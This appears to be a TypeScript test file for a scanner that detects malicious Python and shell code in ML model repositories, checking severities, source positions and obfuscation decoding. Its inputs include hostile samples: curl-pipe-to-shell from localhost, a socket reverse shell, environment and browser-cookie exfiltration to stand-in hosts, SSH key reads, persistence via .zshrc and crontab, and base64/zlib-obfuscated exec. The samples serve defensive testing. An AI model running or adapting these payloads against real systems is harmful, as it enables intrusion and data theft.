/**
 * The code scanner end to end, through the scanner object: every fixture in
 * test/fixtures/python/manifest.json (malicious ones reach their severity and
 * name the sink and payload, benign ones stay below MEDIUM), exact lines and
 * columns, which files are claimed, and the semantic rules on small sources.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { BufferSource } from '../../src/formats/source.js';
import { createScanContext } from '../../src/scan/scanner.js';
import { pythonScanner } from '../../src/scan/python-scan.js';
import { severityRank, type Finding, type Severity } from '../../src/scan/finding.js';
import { PYTHON_RULES } from '../../src/scan/rules-python.js';
import { assertMeets } from '../support/expect.js';

const ROOT = fileURLToPath(new URL('../../..', import.meta.url));
const FIX = join(ROOT, 'test/fixtures/python');

interface Entry {
  path: string;
  technique: string;
  expect: 'clean' | { minSeverity: Severity; mentions: string[] };
}

const manifest = JSON.parse(readFileSync(join(FIX, 'manifest.json'), 'utf8')) as Entry[];

async function scan(bytes: Buffer, location: string): Promise<Finding[]> {
  const ctx = createScanContext(location);
  await pythonScanner.scan(new BufferSource(bytes, location), { location, depth: 0, ecosystems: ['python'] }, ctx);
  assert.deepEqual(ctx.errors, [], 'no scan errors');
  return ctx.findings;
}

async function scanText(src: string, location = 'module.py'): Promise<Finding[]> {
  return scan(Buffer.from(src, 'utf8'), location);
}

function describe(fs: Finding[]): string {
  return fs.map((f) => `  ${f.severity} ${f.ruleId} ${f.line}:${f.column} ${f.message}\n    ${(f.evidence ?? '').replace(/\n/g, '\n    ')}`).join('\n') || '  (none)';
}

function rot13(s: string): string {
  return s.replace(/[a-zA-Z]/g, (c) => String.fromCharCode(((c.toLowerCase().charCodeAt(0) - 97 + 13) % 26) + (c < 'a' ? 65 : 97)));
}

const loud = (fs: Finding[]) => fs.filter((f) => severityRank(f.severity) >= severityRank('MEDIUM'));

for (const e of manifest) {
  test(`${e.expect === 'clean' ? 'benign' : 'malicious'}: ${e.path} — ${e.technique}`, async () => {
    const bytes = readFileSync(join(FIX, e.path));
    assert.ok(pythonScanner.sniffName!(join(FIX, e.path), bytes.subarray(0, 4096)), 'claimed by name');
    const fs = await scan(bytes, e.path);
    assertMeets(fs, e.expect, ['evidence', 'message']);
  });
}

test('benign corpus: false-alarm rate is zero (no MEDIUM+ finding in any benign file)', async () => {
  const benign = manifest.filter((e) => e.expect === 'clean');
  assert.ok(benign.length >= 15, 'a real corpus');
  let alarms = 0;
  for (const e of benign) if (loud(await scan(readFileSync(join(FIX, e.path)), e.path)).length) alarms++;
  assert.equal(alarms / benign.length, 0);
});

test('findings point at the exact line and column of the call', async () => {
  const src = 'import os\n\n\nx = 1\nif x:\n    os.system("curl -s http://127.0.0.1:8000/x | sh")\n';
  const fs = await scanText(src);
  const f = fs.find((x) => x.ruleId === 'python/remote-code');
  assert.ok(f, describe(fs));
  assert.equal(f.line, 6);
  assert.equal(f.column, 5);
  assert.equal(f.endLine, 6);
  // SARIF end columns are exclusive: the column just after the closing parenthesis.
  assert.equal(f.endColumn, 5 + 'os.system("curl -s http://127.0.0.1:8000/x | sh")'.length);
  assert.equal(f.offset, Buffer.byteLength(src.slice(0, src.indexOf('os.system'))));
});

test('columns count UTF-16 code units and offsets count UTF-8 bytes', async () => {
  const src = '# é\nimport os\ns = "ü"; os.system("touch /tmp/ptmscope_marker")\n';
  const fs = await scanText(src);
  const f = fs.find((x) => x.ruleId === 'python/process-exec')!;
  assert.equal(f.line, 3);
  assert.equal(f.column, 10);
  assert.equal(f.offset, Buffer.byteLength(src.slice(0, src.indexOf('os.system'))));
});

test('notebook findings point at the line of the .ipynb file', async () => {
  const path = join(FIX, 'malicious/notebook_exfil.ipynb');
  const text = readFileSync(path, 'utf8');
  const fs = await scan(Buffer.from(text), 'nb.ipynb');
  const lines = text.split('\n');
  const shell = fs.find((f) => f.ruleId === 'shell/remote-code')!;
  assert.ok(lines[shell.line! - 1].includes('curl -s http://127.0.0.1:8000/setup.sh | sh'), lines[shell.line! - 1]);
  assert.equal(lines[shell.line! - 1].slice(shell.column! - 1).startsWith('curl'), true);
  const exfil = fs.find((f) => f.ruleId === 'python/exfiltration')!;
  assert.ok(lines[exfil.line! - 1].slice(exfil.column! - 1).startsWith('requests.post('), lines[exfil.line! - 1]);
});

test('sniffName claims source files, notebooks, shell scripts and TorchScript code members', () => {
  const head = Buffer.from('import torch\n');
  for (const name of ['repo/modeling_x.py', 'repo/hubconf.py', 'setup.py', 'pkg/__init__.py', 'install.sh', 'scripts/run.bash', 'model.pt!archive/code/__torch__/model.py', 'a.zip!x/y.py']) {
    assert.ok(pythonScanner.sniffName!(name, head), name);
  }
  assert.ok(pythonScanner.sniffName!('nb.ipynb', Buffer.from('{\n "cells": []}')));
  assert.ok(!pythonScanner.sniffName!('nb.ipynb', Buffer.from('not json')));
  for (const name of ['model.bin', 'README.md', 'config.json', 'model.pt!archive/data.pkl', 'x.pyc']) assert.ok(!pythonScanner.sniffName!(name, head), name);
  assert.ok(!pythonScanner.sniffName!('evil.py', Buffer.from([0x80, 0x02, 0x63, 0x00, 0x00])), 'binary data named .py is not source');
  assert.ok(pythonScanner.sniff(Buffer.from('#!/usr/bin/env python3\nprint(1)\n'), 30));
  assert.ok(pythonScanner.sniff(Buffer.from('#!/bin/bash\necho hi\n'), 20));
  assert.ok(!pythonScanner.sniff(Buffer.from('import os\n'), 10));
  assert.ok(!pythonScanner.sniff(Buffer.from('#!/usr/bin/perl\n'), 16));
});

test('a shebang script without extension is scanned as shell or Python', async () => {
  const fs = await scan(Buffer.from('#!/bin/sh\nwget -qO- http://127.0.0.1:8000/a | sh\n'), 'bin/setup-env');
  assert.equal(fs[0]?.ruleId, 'shell/remote-code', describe(fs));
  const py = await scan(Buffer.from('#!/usr/bin/env python\nimport os\nos.system("touch /tmp/ptmscope_marker")\n'), 'bin/tool');
  assert.equal(py[0]?.ruleId, 'python/process-exec', describe(py));
});

test('TorchScript code members are scanned as code that runs when the model is called', async () => {
  const fs = await scanText('import os\nos.system("touch /tmp/ptmscope_marker")\n', 'model.pt!archive/code/__torch__/m.py');
  const f = fs.find((x) => x.ruleId === 'python/process-exec')!;
  assert.match(f.message, /when this code is called/);
});

// ---------------------------------------------------------------- semantics

async function rules(src: string): Promise<Map<string, Finding>> {
  const fs = await scanText(src);
  return new Map(fs.map((f) => [f.ruleId, f]));
}

test('aliases: import os as o, from subprocess import Popen as P, star imports', async () => {
  for (const src of [
    'import os as o\no.system("touch /tmp/ptmscope_marker")',
    'from subprocess import Popen as P\nP(["touch", "/tmp/ptmscope_marker"])',
    'from os import *\nsystem("touch /tmp/ptmscope_marker")',
    'import posix\nposix.system("touch /tmp/ptmscope_marker")',
    'import os.path\nos.system("touch /tmp/ptmscope_marker")',
  ]) {
    const f = (await rules(src)).get('python/process-exec');
    assert.equal(f?.severity, 'HIGH', src);
    assert.match(f!.message, /touch \/tmp\/ptmscope_marker/);
  }
});

test('dynamic imports and getattr chains resolve to the sink and raise severity', async () => {
  for (const src of [
    '__import__("os").system("touch /tmp/ptmscope_marker")',
    'import importlib\nimportlib.import_module("subprocess").call(["touch", "/tmp/ptmscope_marker"])',
    'getattr(__import__("o" + "s"), "sys" + "tem")("touch /tmp/ptmscope_marker")',
    'import sys, os\nsys.modules["os"].system("touch /tmp/ptmscope_marker")',
    'globals()["__builtins__"].__dict__["__import__"]("os").system("touch /tmp/ptmscope_marker")',
  ]) {
    const f = (await rules(src)).get('python/process-exec');
    assert.equal(f?.severity, 'CRITICAL', `${src}\n${f?.message}`);
  }
  const ex = await rules('getattr(__builtins__, "ex" + "ec")("x = 1")');
  assert.equal(ex.get('python/code-exec')?.severity, 'HIGH');
  assert.match(ex.get('python/code-exec')!.message, /obfuscation/);
});

test('constant folding: %, format, f-strings, slicing, join, replace', async () => {
  for (const src of [
    'import os\nos.system("touch %s" % "/tmp/ptmscope_marker")',
    'import os\nos.system("{} {}".format("touch", "/tmp/ptmscope_marker"))',
    'import os\np = "/tmp/ptmscope_marker"\nos.system(f"touch {p}")',
    'import os\nos.system("rekram_epocsmtp/pmt/ hcuot"[::-1])',
    'import os\nos.system(" ".join(["touch", "/tmp/ptmscope_marker"]))',
    'import os\nos.system("tXuch /tmp/ptmscope_marker".replace("X", "o"))',
    'import os\nos.system("".join(chr(c) for c in [116, 111, 117, 99, 104]) + " /tmp/ptmscope_marker")',
    'import os\nos.system("%s %s" % ("touch", "/tmp/ptmscope_marker"))',
  ]) {
    const f = (await rules(src)).get('python/process-exec');
    assert.ok(f, src);
    assert.match(f.evidence!, /os\.system\('touch \/tmp\/ptmscope_marker'\)/, src);
  }
});

test('decoders: base64, hex, codecs rot13/hex, zlib, bz2, gzip and nested encodings are decoded and scanned', async () => {
  const payload = "import os; os.system('touch /tmp/ptmscope_marker')";
  const b64 = Buffer.from(payload).toString('base64');
  const zlibHex = (await import('node:zlib')).deflateSync(Buffer.from(payload)).toString('hex');
  const bz2 = (await import('node:child_process')).execFileSync('bzip2', ['-c'], { input: payload }).toString('base64');
  for (const src of [
    `import base64\nexec(base64.b64decode("${b64}"))`,
    `exec(bytes.fromhex("${Buffer.from(payload).toString('hex')}").decode())`,
    `import codecs, base64\nexec(base64.b64decode(codecs.decode("${rot13(b64)}", "rot13")))`,
    `import zlib\nexec(zlib.decompress(bytes.fromhex("${zlibHex}")))`,
    `import codecs\nexec(codecs.decode(codecs.decode("${zlibHex}", "hex"), "zlib"))`,
    `import bz2, base64\nexec(bz2.decompress(base64.b64decode("${bz2}")))`,
    `import base64\nexec(base64.b64decode(base64.b64decode("${Buffer.from(b64).toString('base64')}")))`,
  ]) {
    const m = await rules(src);
    const ex = m.get('python/obfuscated-exec');
    assert.equal(ex?.severity, 'CRITICAL', `${src}\n${describe([...m.values()])}`);
    assert.ok(ex!.evidence!.includes(payload), ex!.evidence);
    assert.equal(m.get('python/process-exec')?.severity, 'CRITICAL', 'the decoded payload is scanned too');
  }
});

test('recursion into payloads is bounded: ten nested layers of exec/base64 end', async () => {
  let code = "import os; os.system('touch /tmp/ptmscope_marker')";
  for (let i = 0; i < 10; i++) code = `import base64\nexec(base64.b64decode("${Buffer.from(code).toString('base64')}"))`;
  const fs = await scanText(code);
  assert.equal(fs.find((f) => f.ruleId === 'python/obfuscated-exec')?.severity, 'CRITICAL');
});

test('data flow across functions: download → helper → exec is remote code', async () => {
  const m = await rules(`
import requests

def fetch(url):
    r = requests.get(url)
    return r.text

def run(code):
    exec(code)

payload = fetch("http://127.0.0.1:8000/stage2.py")
run(payload)
`);
  const f = m.get('python/remote-code');
  assert.equal(f?.severity, 'CRITICAL');
  assert.match(f!.evidence!, /requests\.get\('http:\/\/127\.0\.0\.1:8000\/stage2\.py'\)/);
  assert.match(f!.evidence!, /run\(\) called at line 12/);
  assert.equal(f!.line, 9);
});

test('methods and instance attributes carry data: self.sock set in __init__, used in another method', async () => {
  const m = await rules(`
import os, socket, subprocess

class Telemetry:
    def __init__(self):
        self.sock = socket.socket()
        self.sock.connect(("127.0.0.1", 9001))

    def attach(self):
        subprocess.call(["/bin/sh", "-i"], stdin=self.sock.fileno(), stdout=self.sock.fileno(), stderr=self.sock.fileno())

t = Telemetry()
t.attach()
`);
  assert.equal(m.get('python/reverse-shell')?.severity, 'CRITICAL');
});

test('environment and host details sent out are exfiltration; a single API key in a header is not', async () => {
  const all = await rules('import os, requests\nrequests.post("https://collector.example.com/e", data=str(os.environ))');
  assert.equal(all.get('python/exfiltration')?.severity, 'CRITICAL');
  const one = await rules('import os, requests\ndef go():\n    requests.post("https://example.com/x", data={"k": os.environ["AWS_SECRET_ACCESS_KEY"]})');
  assert.equal(one.get('python/exfiltration')?.severity, 'HIGH');
  const header = await rules('import os, requests\ndef ask(q):\n    return requests.post("https://api.example.com/v1/chat", headers={"Authorization": "Bearer " + os.environ["API_KEY"]}, json={"q": q})');
  assert.equal(header.get('python/exfiltration'), undefined);
  const recon = await rules('import socket, getpass, requests\nrequests.post("http://127.0.0.1:8000/r", json={"h": socket.gethostname(), "u": getpass.getuser()})');
  assert.equal(recon.get('python/exfiltration')?.severity, 'HIGH');
  const hub = await rules('import os, requests\nrequests.post("https://huggingface.co/api/repos/create", headers={"authorization": f"Bearer {os.environ[\'HF_TOKEN\']}"}, json={"name": "x"})');
  assert.equal(loud([...hub.values()]).length, 0);
});

test('severity knows import time from call time and ordinary tools from others', async () => {
  const imp = await rules('import subprocess\nsubprocess.run(["touch", "/tmp/ptmscope_marker"])');
  assert.equal(imp.get('python/process-exec')?.severity, 'HIGH');
  const fn = await rules('import subprocess\ndef f():\n    subprocess.run(["touch", "/tmp/ptmscope_marker"])');
  assert.equal(fn.get('python/process-exec')?.severity, 'LOW');
  const git = await rules('import subprocess\nsha = subprocess.check_output(["git", "rev-parse", "HEAD"]).decode()');
  assert.equal(git.get('python/process-exec')?.severity, 'LOW');
  const main = await rules('import os\nif __name__ == "__main__":\n    os.system("touch /tmp/ptmscope_marker")');
  assert.equal(main.get('python/process-exec')?.severity, 'LOW', 'a __main__ block is not import time');
  const inline = await rules('import subprocess\ndef f(cmd):\n    subprocess.run(["bash", "-c", cmd])');
  assert.equal(inline.get('python/process-exec')?.severity, 'MEDIUM');
  const called = await rules('import os\ndef f():\n    os.system("touch /tmp/ptmscope_marker")\nf()');
  assert.equal(called.get('python/process-exec')?.severity, 'HIGH', 'a function called at import time runs at import time');
});

test('code handed to threads, timers and exit hooks, and lambdas, is analysed where it is handed over', async () => {
  const t = await rules('import os, threading\ndef beacon(cmd):\n    os.system(cmd)\nthreading.Thread(target=beacon, args=("curl -s http://127.0.0.1:8000/x | sh",), daemon=True).start()');
  assert.equal(t.get('python/remote-code')?.severity, 'CRITICAL');
  const a = await rules('import atexit, os\natexit.register(lambda: os.system("touch /tmp/ptmscope_marker"))');
  assert.equal(a.get('python/process-exec')?.severity, 'HIGH');
  const l = await rules('import os\nHOOKS = {"post": lambda: os.system("touch /tmp/ptmscope_marker")}');
  assert.equal(l.get('python/process-exec')?.severity, 'LOW', 'a stored lambda is analysed as call-time code');
});

test('code pulled from other repositories is noted: trust_remote_code=True, torch.hub.load', async () => {
  const trc = await rules('from transformers import AutoModel\nm = AutoModel.from_pretrained("someone/model", trust_remote_code=True)');
  assert.equal(trc.get('python/remote-code')?.severity, 'MEDIUM');
  const hub = await rules('import torch\ndef load():\n    return torch.hub.load("someone/repo", "net")');
  assert.equal(hub.get('python/remote-code')?.severity, 'LOW');
  const local = await rules('import torch\nm = torch.hub.load("./repo", "net", source="local")');
  assert.equal(local.get('python/remote-code'), undefined);
});

test('unsafe deserialisation of downloaded or embedded bytes; embedded pickles are scanned as pickles', async () => {
  const net = await rules('import pickle, requests\nobj = pickle.loads(requests.get("http://127.0.0.1:8000/m.pkl").content)');
  assert.equal(net.get('python/unsafe-deserialization')?.severity, 'CRITICAL');
  const torch = await rules('import io, torch, requests\ndef load():\n    return torch.load(io.BytesIO(requests.get("https://example.com/w.pt").content))');
  assert.equal(torch.get('python/unsafe-deserialization')?.severity, 'HIGH');
  const local = await rules('import torch\ndef load(p):\n    return torch.load(p, map_location="cpu")');
  assert.equal(local.get('python/unsafe-deserialization'), undefined);
  const fs = await scanText('import pickle\nobj = pickle.loads(b"cos\\nsystem\\n(S\'touch /tmp/ptmscope_marker\'\\ntR.")\n');
  const p = fs.find((f) => f.ruleId === 'pickle/dangerous-global');
  assert.ok(p, describe(fs));
  assert.equal(p.location, 'module.py!<literal at line 2>');
});

test('credential stores: reading is noted, sending is exfiltration, copied databases stay tainted', async () => {
  const read = await rules('import os\ndef f():\n    return open(os.path.expanduser("~/.ssh/id_rsa")).read()');
  assert.equal(read.get('python/credential-access')?.severity, 'MEDIUM');
  const ff = await rules('import glob, os, sqlite3, shutil, requests\ndef f():\n    db = os.path.join(os.environ["APPDATA"], "Mozilla/Firefox/Profiles/x.default/cookies.sqlite")\n    shutil.copy(db, "c.db")\n    rows = sqlite3.connect("c.db").execute("select * from moz_cookies").fetchall()\n    requests.post("http://127.0.0.1:8000", json=rows)');
  assert.equal(ff.get('python/exfiltration')?.severity, 'CRITICAL');
  assert.equal(ff.get('python/credential-access')?.severity, 'HIGH');
});

test('persistence writes: rc files, authorized_keys, .pth, cron via shell, with what is written', async () => {
  const rc = await rules('import os\ndef f():\n    with open(os.path.expanduser("~/.zshrc"), "a") as fh:\n        fh.write("curl -s http://127.0.0.1:8000 | sh")');
  const f = rc.get('python/persistence');
  assert.equal(f?.severity, 'CRITICAL', 'the written line is itself a fetch-and-run');
  assert.match(f!.evidence!, /writes: curl -s http:\/\/127\.0\.0\.1:8000 \| sh/);
  const cron = await rules('import subprocess\nsubprocess.run("echo \'* * * * * touch /tmp/ptmscope_marker\' | crontab -", shell=True)');
  assert.equal(cron.get('python/persistence')?.severity, 'CRITICAL');
});

test('Python 2 syntax and broken files are scanned as far as they parse', async () => {
  const py2 = await scanText('import os\nprint "hello"\nexec "import os; os.system(\'touch /tmp/ptmscope_marker\')"\n');
  assert.equal(py2.find((f) => f.ruleId === 'python/process-exec')?.severity, 'HIGH', describe(py2));
  const broken = await scanText('import os\ndef f(:\n    pass\n)))\nos.system("curl http://127.0.0.1/x | sh")\nclass ][\n');
  assert.ok(broken.some((f) => f.ruleId === 'python/parse-error' && f.severity === 'INFO'), describe(broken));
  assert.ok(broken.some((f) => f.ruleId === 'python/remote-code'), describe(broken));
});

test('ordinary ML code patterns stay quiet', async () => {
  const src = `
import os, json, subprocess, torch, requests
from transformers import AutoModel
from huggingface_hub import hf_hub_download

cfg = json.load(open(os.path.join(os.path.dirname(__file__), "config.json")))
path = hf_hub_download("org/model", "pytorch_model.bin")
state = torch.load(path, map_location="cpu", weights_only=True)
act = getattr(torch.nn, cfg["activation"])()
layers = [getattr(torch.nn, f"Linear")(4, 4) for _ in range(3)]
resp = requests.get("https://huggingface.co/api/models/org/model").json()

def get_git_hash():
    try:
        return subprocess.check_output(["git", "rev-parse", "--short", "HEAD"]).decode().strip()
    except Exception:
        return "unknown"

class Model(torch.nn.Module):
    def forward(self, x):
        return eval("x * 2")
`;
  const fs = await scanText(src);
  assert.equal(loud(fs).length, 0, describe(loud(fs)));
});

test('rules catalogue: ids are unique and every default severity is a severity', () => {
  const ids = PYTHON_RULES.map((r) => r.id);
  assert.equal(new Set(ids).size, ids.length);
  for (const r of PYTHON_RULES) {
    assert.match(r.id, /^(python|shell)\/[a-z-]+$/);
    assert.ok(['INFO', 'LOW', 'MEDIUM', 'HIGH', 'CRITICAL'].includes(r.defaultSeverity));
  }
  const docs = readFileSync(join(ROOT, 'docs/rules.md'), 'utf8');
  for (const id of ids) assert.ok(docs.includes(`## ${id}`), `docs document ${id}`);
});
